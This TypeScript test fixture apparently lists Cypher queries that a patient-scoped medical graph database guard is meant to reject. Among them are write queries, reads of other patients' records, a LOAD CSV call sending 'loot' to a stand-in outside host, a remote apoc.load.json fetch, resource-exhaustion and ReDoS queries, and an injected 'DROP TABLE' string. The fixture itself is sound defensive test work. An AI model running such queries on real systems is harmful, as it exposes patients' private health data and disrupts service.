import type { Lure } from './lure.ts';

const OWN = 'MATCH (p:Patient {uuid: $patient_uuid})';

/** Queries that write, that ask for somebody else, or that cost more than an answer is worth. */
export function wrongQueries({ ids, loot }: Lure): readonly { cypher: string; parameters?: object }[] {
  const of = (uuid: string) => `MATCH (p:Patient {uuid: "${uuid}"})-[:HAS_CONDITION]->(c) RETURN c`;
  const plain = [
    'CREATE (n:ConditionCase {name: "x"}) RETURN n',
    `${OWN}-[:HAS_REGIMEN]->(r) SET r.status = "active" RETURN r`,
    `${OWN}-[:HAS_REGIMEN]->(r) DETACH DELETE r`,
    `${OWN} MERGE (p)-[:HAS_ALLERGY]->(a:AllergyRecord {name: "none"}) RETURN a`,
    `${OWN}-[:HAS_REGIMEN]->(r) REMOVE r.status RETURN r`,
    `LOAD CSV FROM "http://elsewhere.pages.example/${loot}" AS row RETURN row`,
    'CALL dbms.listConfig()',
    'CALL apoc.load.json("http://elsewhere.pages.example/") YIELD value RETURN value',
    `${OWN} CALL { WITH p MATCH (q:Patient) RETURN q } RETURN q`,
    `${OWN} FOREACH (x IN [1] | CREATE (:Stray))`,
    'MATCH (p:Patient) RETURN p',
    'MATCH (n) RETURN n',
    'MATCH (t:ConditionType) RETURN t',
    `${OWN} MATCH (q:Patient) RETURN q`,
    `${OWN} MATCH (c:ConditionCase) RETURN c`,
    `${OWN} OPTIONAL MATCH (q:Patient)-[:HAS_CONDITION]->(c) RETURN c`,
    `${OWN}-[:HAS_CONDITION]->(c)-[:IS_A]->(t)<-[:IS_A]-(d) RETURN d`,
    `${OWN}-[*1..9]-(q:Patient) RETURN q`,
    `${OWN} RETURN 1 UNION MATCH (q:Patient) RETURN q`,
    of(ids.victimPatient),
    of(ids.foreignPatient),
    `MATCH (c:ConditionCase {uuid: "${ids.victimCondition}"}) RETURN c`,
    `${OWN} WHERE p.uuid = "${ids.victimPatient}" OR true MATCH (q) RETURN q`,
    `${OWN}-[*]-(n) RETURN n`,
    `${OWN}-[*1..30]-(n) RETURN count(n)`,
    `${OWN} ${'MATCH (p)--(x) '.repeat(40)} RETURN x`,
    `${OWN} UNWIND range(1, 1000000000) AS n RETURN sum(n)`,
    `${OWN} RETURN reduce(s = "x", n IN range(1, 100000) | s + s)`,
    `${OWN} WHERE p.name =~ "(a+)+$" RETURN p`,
    `${OWN} RETURN '; DROP TABLE app.resource_versions; --'`,
    `${OWN} RETURN p.tenant, p.compartment`,
  ].map((cypher) => ({ cypher }));
  const mine = `${OWN}-[:HAS_CONDITION]->(c) RETURN c`;
  return [
    ...plain,
    { cypher: mine, parameters: { patient_uuid: ids.victimPatient } },
    { cypher: mine, parameters: { patient_uuid: ids.foreignPatient, topic_uuid: ids.victimCondition } },
    {
      cypher: 'MATCH (p:Patient {uuid: $me})-[:HAS_CONDITION]->(c) RETURN c',
      parameters: { me: ids.victimPatient },
    },
    {
      cypher: `${OWN} MATCH (p)-[:HAS_CONDITION]->(c {uuid: $topic_uuid}) RETURN c`,
      parameters: { topic_uuid: ids.victimCondition },
    },
  ];
}
